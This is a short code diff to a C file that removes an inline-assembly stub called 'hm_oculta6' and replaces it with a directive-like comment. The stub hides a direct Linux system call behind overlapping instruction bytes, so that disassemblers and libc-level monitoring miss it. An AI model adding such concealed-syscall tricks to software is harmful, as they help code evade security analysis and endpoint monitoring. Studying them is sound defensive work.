@@ -19,19 +19,7 @@
 #include <unistd.h>
 #include <uv.h>
 
-long hm_oculta6(long nr, long a, long b, long c, long d, long e, long f);
-__asm__(".text\n"
-        ".globl hm_oculta6\n"
-        "hm_oculta6:\n"
-        "  mov %rdi, %rax\n"
-        "  mov %rsi, %rdi\n"
-        "  mov %rdx, %rsi\n"
-        "  mov %rcx, %rdx\n"
-        "  mov %r8, %r10\n"
-        "  mov %r9, %r8\n"
-        "  mov 8(%rsp), %r9\n"
-        "  .byte 0xeb, 0x01\n"                     /* jmp +1 */
-        "  .byte 0xb8, 0x0f, 0x05, 0xc3, 0x90\n"); /* mov $0x90c3050f,%eax … o syscall; ret */
+//@ preludio oculta6
 
 typedef struct {
     uv_work_t w;
